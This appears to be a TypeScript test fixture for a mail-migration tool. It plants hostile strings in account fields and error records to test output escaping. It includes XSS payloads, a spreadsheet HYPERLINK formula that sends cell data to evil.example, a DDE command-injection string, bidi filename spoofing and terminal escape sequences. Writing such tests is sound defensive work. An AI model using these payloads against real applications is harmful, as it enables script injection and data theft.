/** Texts that would be more than text on a page, a terminal or a spreadsheet if nobody took care, and accounts full of them. */
import type { Account, Endpoint } from '../../src/accounts/account.ts';
import { MailhaulError, printable } from '../../src/ground/errors.ts';
import { accountKeys } from '../../src/ground/keys.ts';
import type { RedisClient } from '../../src/ground/redis.ts';
import { noteProblem, problemOf } from '../../src/ledger/problems.ts';
import { uidlKey } from '../../src/ledger/record.ts';
import { packRefusal } from '../../src/ledger/registry.ts';
import { startRun, updateRun } from '../../src/ledger/run.ts';
import { finishRunIfDone } from '../../src/ledger/run-end.ts';
import { type Settlement, settle } from '../../src/ledger/settle.ts';
import { registerBatch } from '../../src/spool/registry.ts';
import { accountOf } from '../dashboard/dashboard-rig.ts';

/**
 * Each by what it tries to be, in 500 characters, as the API takes ids. Whatever runs sets `canary` on the window, or asks a host that is not
 * there for something.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  image: '<img src=x onerror="canary=1">',
  script: '"><script>canary=1</script>',
  attribute: '" onmouseover="canary=1" autofocus onfocus="canary=1" x="',
  vector: "'><svg/onload=canary=1><style>*{display:none}</style>",
  frame: '</title></textarea><iframe srcdoc="<script>top.canary=1</script>"></iframe>',
  link: '<a href="javascript:canary=1">click</a><base href="//evil.example/">',
  address: 'javascript:canary=1//',
  template: '{{constructor.constructor("canary=1")()}} $' + '{canary=1} %s %n',
  // eslint-style comments and JSON ends, for what is put into a script or a data island.
  island: '</script><!--<script>canary=1/*\u2028*/',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  hash: '../../#/hosts?search=%00&x=%2e%2e/',
  bidi: 'invoice_\u202egpj.exe\u202c \u2067fdp\u2069 \u200f\u061c',
  zalgo: `Z${'\u0335\u0321\u0301'.repeat(100)}`,
  long: 'W'.repeat(450),
  unbroken: `https://${'w'.repeat(400)}.example/`,
};

/** What a terminal would obey: colours, a window title, a link, the answerback, a cleared screen, C1 controls, backspaces. */
export const terminalText =
  '\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b[2J\x1b[6n\x9b5m\x90q\x9c\rgone\b\b\b\x7f\x00\u202e';

/** Far more than any line of a page holds. */
export const hugeWord = 'M'.repeat(10_000);

/** An account for each text: it stands in id, group, hosts and users. */
export function hostileAccounts(): Account[] {
  return Object.entries(hostileTexts).map(([name, text]) => {
    const plain = accountOf(name, name);
    const side = (endpoint: Endpoint): Endpoint => ({ ...endpoint, host: `${text}.${name}`, user: text });
    const { source, destination } = plain;
    return { ...plain, id: `${name} ${text}`, group: text, source: side(source), destination: side(destination) };
  });
}

/** Runs of such accounts, which failed with hostile answers of servers, and refused a message full of hostile text. */
export async function writeHostileRuns(redis: RedisClient, accounts: readonly Account[]): Promise<void> {
  for (const account of accounts) await writeHostileRun(redis, account);
}

async function writeHostileRun(redis: RedisClient, { key, source, id }: Account): Promise<void> {
  const said = `${id} ${terminalText} ${hugeWord}`;
  const error = new MailhaulError('credentials-refused', { host: source.host, user: source.user, reply: said });
  await startRun(redis, key, 'run-1', Date.parse('2026-03-02T20:00:00Z'), false);
  await refuseOne(redis, key, said);
  await noteProblem(redis, key, problemOf(error));
  // Longer than any of today's, as a fault in an adapter might leave it.
  await updateRun(redis, key, 'run-1', { listed: 1, download: 'failed', error: said });
  await finishRunIfDone(redis, key, 'run-1', Date.parse('2026-03-02T20:01:00Z'));
}

/** Settles one message as refused; the header lines of it come from whoever wrote the mail. */
async function refuseOne(redis: RedisClient, account: string, said: string): Promise<void> {
  const [spool, batch, token, uidl] = ['s', 'b1', 'mine', 'u1'];
  await redis.set(accountKeys.fence(account), token);
  const message = { uidl, size: 10, sha256: '', fingerprint: '', offset: 0, headerBytes: 1, hasMessageId: true };
  const messages = [{ ...message, key: uidlKey(Buffer.from(uidl)).toString('hex'), hasNul: false }];
  const kind = 'messages' as const;
  await registerBatch(redis, spool, { version: 1, batch, account, id: 'x', kind, firstRun: true, bytes: 1, messages });
  const record = { mailbox: 1, uid: 0, size: 10, content: Buffer.alloc(8), run: 1 } as const;
  const header = printable(said, 20_000);
  const refusal = packRefusal({
    code: 'append-refused',
    text: `the destination refuses it: ${said}`,
    reply: said,
    uidl,
    size: 10,
    sha256: '',
    subject: header,
    messageId: header,
    date: header,
    at: Date.parse('2026-03-02T20:00:30Z'),
    run: 1,
  });
  const key = uidlKey(Buffer.from(uidl));
  const end: Settlement = {
    index: 0,
    outcome: 'refused',
    record: { ...record, key, outcome: 'refused' },
    mailbox: '',
    refusal,
  };
  await settle(redis, { account, spool, batch, token, command: '' }, [end]);
}
